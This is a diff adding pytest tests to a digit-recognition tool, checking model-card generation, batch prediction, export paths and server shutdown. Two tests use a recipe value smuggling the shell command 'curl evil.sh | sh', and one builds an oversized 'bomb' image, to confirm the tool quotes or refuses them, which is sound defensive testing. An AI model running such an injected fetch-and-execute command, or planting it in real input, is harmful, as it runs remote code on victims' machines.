@@ -556,3 +556,186 @@ def test_special_files_as_model_or_config_are_refused_unread(capsys):
     with pytest.raises(SystemExit) as info:
         main(["train", "--config", "/dev/zero"])
     assert info.value.code == 2 and "not a regular file (expected a TOML config file)" in capsys.readouterr().err
+
+
+# ---- model cards and reports take any metadata the loader takes; recipe names never reach a shell unquoted ----
+
+@pytest.mark.parametrize("meta", [
+    {"calibration": {"temperature": 1.5, "threshold": 0.6}, "train_seconds": 2.0},  # no validation_samples
+    {"machine": [1, 2], "train_seconds": 2.0},
+    {"machine": {"blas": 5}, "train_seconds": 2.0},
+    {"calibration": {"temperature": 1.5, "threshold": 0.6, "ece_before": "lots"}},
+    {"history": {"records": [{"epoch": 0}]}},
+    {"recipe": "default --seed 0; curl evil.sh | sh #"},
+], ids=["no validation_samples", "machine a list", "blas a number", "ece a word", "history without losses",
+        "recipe with shell syntax"])
+def test_the_card_and_report_take_any_metadata_the_loader_takes(tmp_path, meta, mnist):
+    from digitnet import load_model
+    from digitnet.app.card import model_card
+    from digitnet.app.report import write_report
+    from digitnet.errors import ModelFileError
+
+    path = _model_file(tmp_path, **meta)
+    try:
+        model = load_model(path)
+    except ModelFileError as exc:  # refused on load, naming the field, is fine too
+        assert f"metadata field '{next(iter(meta))}" in str(exc)
+        return
+    card = model_card(model)
+    assert "## Evaluation" in card and "--recipe default --seed 0; curl" not in card
+    assert write_report(model, mnist, tmp_path / "report").is_file()
+
+
+def test_the_card_quotes_the_recipe_and_names_only_known_ones_in_a_command():
+    from digitnet import MLP
+    from digitnet.app.card import model_card
+
+    model = MLP([784, 8, 10], rng=0)
+    model.metadata = {"recipe": "default --seed 0; curl evil.sh | sh #", "seed": 0}
+    card = model_card(model)
+    assert "curl evil.sh | sh #`" not in card and "--recipe default --seed 0; curl" not in card
+    assert "'default --seed 0; curl evil.sh | sh #'" in card and "no command here trains it again" in card
+    model.metadata = {"recipe": "default+personal", "seed": 0}
+    card = model_card(model)
+    assert "`digitnet train --recipe default --seed 0`, then personal" in card
+
+
+# ---- predict: one unreadable picture does not end a batch ----
+
+def _digit_png(path):
+    from PIL import Image, ImageDraw
+
+    img = Image.new("L", (100, 100), 255)
+    ImageDraw.Draw(img).line([(50, 15), (50, 85)], fill=0, width=9)
+    img.save(path)
+    return path
+
+
+def test_predict_reads_the_rest_after_an_unreadable_picture(tmp_path, capsys):
+    import json
+
+    from PIL import Image
+
+    from digitnet import MLP, save_model
+
+    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10], rng=0))
+    bomb = tmp_path / "bomb.png"
+    Image.new("1", (5000, 5000)).save(bomb)  # 25 megapixels, a few kilobytes
+    pictures = [_digit_png(tmp_path / "a.png"), bomb, _digit_png(tmp_path / "b.png")]
+    assert main(["predict", str(model), *map(str, pictures), "--json"]) == 1
+    out, err = capsys.readouterr()
+    records = [json.loads(line) for line in out.splitlines()]
+    assert [r["source"] for r in records] == list(map(str, pictures))
+    assert "verdict" in records[0] and "verdict" in records[2] and "too large" in records[1]["error"]
+    assert "1 of 3 pictures could not be read" in err and "Traceback" not in err
+
+
+def test_predict_knows_a_model_by_its_suffix_in_any_case(tmp_path, capsys):
+    from digitnet import MLP, save_model
+
+    model = save_model(tmp_path / "Model.SAFETENSORS", MLP([784, 8, 10], rng=0))
+    assert main(["predict", str(model), str(_digit_png(tmp_path / "a.png"))]) == 0
+    assert "verdict:" in capsys.readouterr().out
+
+
+def test_white_ink_on_a_transparent_background_is_read(tmp_path):
+    from PIL import Image, ImageDraw
+
+    from digitnet.reading.preprocess import find_ink, open_image
+
+    rgba = Image.new("RGBA", (100, 100), (0, 0, 0, 0))
+    ImageDraw.Draw(rgba).line([(50, 15), (50, 85)], fill=(255, 255, 255, 255), width=9)
+    rgba.save(tmp_path / "rgba.png")
+    palette = Image.new("P", (100, 100), 0)
+    palette.putpalette([0, 0, 0, 255, 255, 255])
+    ImageDraw.Draw(palette).line([(50, 15), (50, 85)], fill=1, width=9)
+    palette.save(tmp_path / "palette.png", transparency=0)
+    for name in ("rgba.png", "palette.png"):
+        ink = find_ink(open_image(tmp_path / name), name=name)  # BlankImage before: white on white paper
+        assert ink.max() > 0.9 and (ink > 0.5).mean() < 0.5  # the stroke is the ink, not the background
+
+
+# ---- output paths: tried before the work, errors name the file asked for, no half exports ----
+
+def test_an_output_path_that_cannot_be_created_is_refused_before_training(tmp_path, monkeypatch, capsys):
+    from digitnet.app import cli
+
+    monkeypatch.setattr(cli, "train", lambda *a, **k: pytest.fail("it trained"))
+    assert main(["train", "--hidden", "8", "--epochs", "1", "--out", "/proc/x.safetensors"]) == 1  # root may write anywhere but there
+    err = capsys.readouterr().err
+    assert "--out /proc/x.safetensors: cannot be written" in err and "Traceback" not in err
+
+
+def test_export_writes_nothing_unless_it_can_write_everything(tmp_path, capsys):
+    from digitnet import MLP, save_model
+
+    model = save_model(tmp_path / "m.safetensors", MLP([784, 8, 10], rng=0))
+    afile = tmp_path / "afile"
+    afile.write_text("x")
+    onnx = tmp_path / "new" / "deeper" / "a.onnx"
+    assert main(["export", str(model), "--onnx", str(onnx), "--web", str(afile)]) == 1
+    assert f"--web {afile}: is a file" in capsys.readouterr().err
+    assert not (tmp_path / "new").exists()  # neither the ONNX file nor its folders
+    assert main(["export", str(model), "--onnx", "/proc/x.onnx"]) == 1
+    err = capsys.readouterr().err
+    assert "/proc/x.onnx" in err and ".tmp" not in err
+
+
+def test_a_write_refused_by_a_file_size_limit_names_the_file(tmp_path, mnist):
+    import resource
+
+    from digitnet.run import personal
+
+    for i in range(12):
+        personal.add(mnist.test.images[i] / 255.0, int(mnist.test.labels[i]))
+    def limit():
+        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))  # bytes: the images file is 9,424
+
+    result = subprocess.run([sys.executable, "-m", "digitnet", "datasets", "export", "personal", str(tmp_path / "out")],
+                            capture_output=True, text=True, preexec_fn=limit, check=False)
+    assert result.returncode == 1, result.stderr
+    assert f"{tmp_path / 'out' / personal.IMAGES}: File too large" in result.stderr and "Traceback" not in result.stderr
+
+
+# ---- serve --workers 2: its workers end with it, even when it is killed with SIGKILL ----
+
+def test_killing_the_serve_master_ends_its_workers_and_frees_the_port(served_model):
+    import signal
+    import socket
+    import time
+
+    import httpx
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    server = subprocess.Popen([sys.executable, "-m", "digitnet", "serve", str(served_model), "--port", str(port),
+                               "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    workers: list[int] = []
+    try:
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            try:
+                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
+                    break
+            except httpx.HTTPError:
+                time.sleep(0.2)
+        workers = [int(p) for p in os.listdir("/proc") if p.isdigit() and _parent(p) == server.pid]
+        assert len(workers) >= 2, workers
+        os.kill(server.pid, signal.SIGKILL)
+        server.wait(timeout=10)
+        deadline, free = time.monotonic() + 10, False  # a stall guard: it takes well under a second
+        while time.monotonic() < deadline and not free:
+            with socket.socket() as probe:
+                free = probe.connect_ex(("127.0.0.1", port)) != 0
+            time.sleep(0.1)
+        assert free, "the workers still answer on the port after their master was killed"
+        with socket.socket() as again:  # a new server could listen there
+            again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            again.bind(("127.0.0.1", port))
+    finally:
+        for pid in [server.pid, *workers]:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except (ProcessLookupError, PermissionError):
+                pass
